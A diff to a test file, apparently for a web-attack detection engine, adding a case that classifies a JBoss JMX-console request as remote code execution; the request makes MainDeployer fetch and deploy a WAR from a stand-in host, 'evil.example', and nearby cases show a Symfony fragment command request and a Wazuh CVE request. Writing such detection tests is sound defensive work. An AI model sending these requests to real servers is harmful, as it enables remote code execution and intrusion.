@@ -1950,6 +1950,15 @@ def test_plain_path_segments_are_no_points_of_their_own(engine: Engine) -> None:
             Request("GET", "/_fragment?_path=_controller%3Dsystem%26command%3Did&_hash=x"),
             {"rce"},
         ),
+        # JBoss's JMX console: the MainDeployer deploys an archive from a URL.
+        (
+            Request(
+                "GET",
+                "/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service=MainDeployer"
+                "&methodIndex=3&arg0=http://evil.example/x.war",
+            ),
+            {"rce"},
+        ),
         # Wazuh (CVE-2025-24016): an exception its API rebuilds from the class it is sent.
         (
             Request(
